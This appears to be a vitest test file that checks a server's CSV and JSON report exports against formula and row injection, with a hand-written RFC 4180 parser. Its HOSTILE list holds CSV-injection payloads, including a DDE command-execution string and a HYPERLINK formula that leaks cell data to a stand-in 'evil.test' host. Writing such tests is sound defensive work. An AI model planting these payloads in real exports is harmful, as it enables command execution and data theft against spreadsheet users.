/** What leaves as CSV and JSON: no name that a machine or a stranger chose becomes a formula, a second row or a second file. */
import { describe, expect, test } from 'vitest';
import { MONTH_TABLE_NAMES, monthJson, monthTableCsv } from '../../server/reports/month-tables.ts';
import { usageCsv, usageJson } from '../../server/reports/usage-tables.ts';
import { sampleReport } from './testing/sample-report.ts';

const HOSTILE: readonly string[] = [
  '=1+1',
  '=HYPERLINK("http://evil.test?"&A1,"click")',
  '=cmd|"/C calc"!A0',
  '+1+1',
  '+SUM(A1:A9)',
  '-2+3',
  '-cmd|"/C calc"!A0',
  '@SUM(1+1)',
  '\t=1+1',
  '\r=1+1',
  '\n=1+1',
  ' =1+1',
  '\u00a0=1+1',
  '\u0000=1+1',
  '＝1+1',
  '＋1+1',
  '－1+1',
  '＠SUM(1)',
  '"=1+1',
  '","=1+1',
  'a","=1+1","b',
  'a\r\n=1+1,b',
  'a\n"=1+1"',
  "'=1+1",
  'quote " inside',
  'comma, inside',
  'line\r\nbreak',
  ';=1+1',
  '=1+1;',
  '%0A=1+1',
  '<script>alert(1)</script>',
  '{"json": true}',
  '\\u003d1+1',
  'Müller & Söhne',
  '日本語',
  '',
];

/** As RFC 4180 says, and nothing more. */
function parseCsv(text: string): string[][] {
  const rows: string[][] = [];
  let row: string[] = [];
  let cell = '';
  let isQuoted = false;
  for (let at = 0; at < text.length; at++) {
    const letter = text[at]!;
    if (isQuoted) {
      if (letter === '"' && text[at + 1] === '"') {
        cell += '"';
        at++;
      } else if (letter === '"') isQuoted = false;
      else cell += letter;
    } else if (letter === '"' && cell === '') isQuoted = true;
    else if (letter === ',') {
      row.push(cell);
      cell = '';
    } else if (letter === '\r' && text[at + 1] === '\n') {
      rows.push([...row, cell]);
      row = [];
      cell = '';
      at++;
    } else cell += letter;
  }
  expect([row, cell, isQuoted]).toEqual([[], '', false]);
  return rows;
}

const isNumber = (cell: string): boolean => /^-?\d+(\.\d+)?(e-?\d+)?$/.test(cell);
/** What the common spreadsheet programs run, or would after they cut off white space. */
const isFormula = (cell: string): boolean => /^[\s\u0000]*[=+\-@＝＋－＠]/.test(cell) && !isNumber(cell);

const report = sampleReport({
  ...{ systems: HOSTILE.length, breaches: HOSTILE.length, drills: HOSTILE.length },
  name: (_, at) => HOSTILE[at % HOSTILE.length]!,
});

describe('exports', () => {
  test.each(MONTH_TABLE_NAMES)('the table %s has no formula and no row too many', (name) => {
    const [head, ...rows] = parseCsv(monthTableCsv(report, name));
    for (const row of rows) expect(row).toHaveLength(head!.length);
    expect(rows.flat().filter(isFormula)).toEqual([]);
    expect(rows.length).toBeGreaterThan(0);
  });

  test('a name comes back as it was, but for the apostrophe that keeps it a text', () => {
    const [, ...rows] = parseCsv(monthTableCsv(report, 'systems'));
    const names = rows.map(([device]) => device!);
    for (const [at, name] of HOSTILE.entries()) expect([name, `'${name}`]).toContain(names[at]);
    expect(names.filter((name) => name.startsWith("'")).length).toBeGreaterThan(12);
  });

  test('numbers are numbers, in tables and in JSON', () => {
    const [head, ...rows] = parseCsv(monthTableCsv(report, 'systems'));
    const bytesAt = head!.indexOf('Protected bytes');
    for (const [at, row] of rows.entries()) expect(Number(row[bytesAt])).toBe(report.systems[at]!.protectedBytes);
    const parsed = JSON.parse(monthJson(report)) as typeof report;
    expect(parsed.systems).toEqual(report.systems);
    expect(parsed.figures).toEqual(report.figures);
    expect(typeof parsed.systems[0]!.protectedBytes).toBe('number');
    expect(monthJson({ ...report, brand: { ...report.brand, logo: new Uint8Array(9) } })).not.toContain('logo');
  });

  test('what is billed is exact, however much it is', () => {
    const usage = HOSTILE.map((customer, at) => ({
      ...{ customerId: 'c', customer, month: '2026-10', frozenMs: at % 2 === 0 ? null : 1_790_000_000_000 },
      ...{ protectedBytes: 9_007_199_254_740_993n, protectedOn: '2026-10-02', storedBytes: 12n, storedOn: null },
      ...{ storedBytesMean: 7n, devices: 3, devicesOn: null, drills: 2, daysMeasured: 31 },
    }));
    const [head, ...rows] = parseCsv(usageCsv(usage));
    for (const row of rows) expect(row).toHaveLength(head!.length);
    expect(rows.flat().filter(isFormula)).toEqual([]);
    expect(rows[0]).toContain('9007199254740993');
    const { customers } = JSON.parse(usageJson(usage)) as { customers: Record<string, unknown>[] };
    expect(customers[0]).toMatchObject({ protectedBytes: '9007199254740993', storedBytes: 12, devices: 3 });
    expect(customers.map(({ customer }) => customer)).toEqual(HOSTILE);
  });
});
